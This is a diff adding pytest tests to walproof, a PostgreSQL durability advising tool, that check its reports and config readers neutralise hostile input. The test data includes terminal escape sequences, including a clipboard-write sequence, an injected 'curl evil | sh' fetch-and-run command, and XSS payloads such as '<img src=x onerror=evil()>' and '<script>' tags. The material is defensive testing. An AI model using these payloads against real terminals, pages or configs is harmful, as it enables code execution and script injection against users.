@@ -18,9 +18,11 @@ from walproof.advising.evidence import evidence_of
 from walproof.advising.recipes.catalogue import recipes
 from walproof.advising.recipes.settings import config_change, patroni_settings, postgres_settings
 from walproof.errors import UsageError
+from walproof.forecasting.failures_file import DEFAULT
+from walproof.links.sites import read_regions
 from walproof.model.advice import Advice, ClusterProfile, Requirements
 from walproof.model.configuration import PARAMETERS, SETTABLE
-from walproof.model.event import Event, SampleDone, Started
+from walproof.model.event import Described, Event, SampleDone, Started
 from walproof.model.guarantee import Level
 from walproof.pricing import tuning
 from walproof.records.layout import HEADER
@@ -208,3 +210,51 @@ def test_a_record_moves_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixtur
     for words in (["report"], ["report", "--markdown"], ["advise"], ["forecast"]):
         _, out, err = ended(capsys, [*words, str(tmp_path / "r")])
         assert not set("\x1b\x07\x9b\r") & set(out + err), words
+
+
+ESCAPES = "\\u001b]52;c;ZXZpbA==\\u0007\\u009b2K"
+
+
+def test_rates_and_regions_are_numbers_and_move_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    with Writer(tmp_path / "r", "prove") as emit:
+        for event in prove_record(Level.ON):
+            emit(event)
+    rates, command = DEFAULT.read_text("utf-8"), 'command = "curl evil | sh"\n'
+    file = tmp_path / "failures.toml"
+    file.write_text(rates.replace('name = "', f'name = "{ESCAPES}', 1))
+    code, out, err = ended(capsys, ["forecast", str(tmp_path / "r"), "--failures", str(file), "--years", "1000"])
+    assert code == 0
+    assert not set("\x1b\x07\x9b") & set(out + err)
+    file.write_text(command + rates)
+    assert ended(capsys, ["forecast", str(tmp_path / "r"), "--failures", str(file)])[0] == 2
+    regions = tmp_path / "regions.toml"
+    regions.write_text(f'title = "{ESCAPES}"\nsource = "x"\nsites = ["a", "b"]\n')
+    assert "\x1b" not in read_regions(str(regions)).title
+    regions.write_text(command + regions.read_text())
+    with pytest.raises(UsageError):
+        read_regions(str(regions))
+
+
+def test_a_study_moves_no_terminal(tmp_path: Path) -> None:
+    text = (Path(str(LIBRARY)) / "synchronous_commit" / "study.toml").read_text()
+    file = tmp_path / "study.toml"
+    file.write_text(text.replace('title = "', f'title = "{ESCAPES}', 1))
+    assert not set("\x1b\x07\x9b") & set(read_study(file).title)
+
+
+def test_a_record_puts_no_script_into_a_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    evil = "<img src=x onerror=evil()></script><script>evil()</script>"
+    with Writer(tmp_path / "r", "price") as emit:
+        for event in (*price_record(), *prove_record(Level.ON)):
+            if isinstance(event, Described):
+                description = replace(event.description, target=evil, members=(evil, "n2"), facts={evil: evil})
+                emit(replace(event, description=description))
+            else:
+                emit(replace(event, question={evil: evil}) if isinstance(event, Started) else event)
+    (tmp_path / "r" / "files").mkdir()
+    (tmp_path / "r" / "files" / "<img src=x onerror=evil()>.log").write_text("")
+    for words in (["--html", "-"], ["--markdown"]):
+        code, out, _ = ended(capsys, ["report", str(tmp_path / "r"), *words])
+        assert code == 0
+        assert "<img" not in out
+        assert "<script>evil" not in out
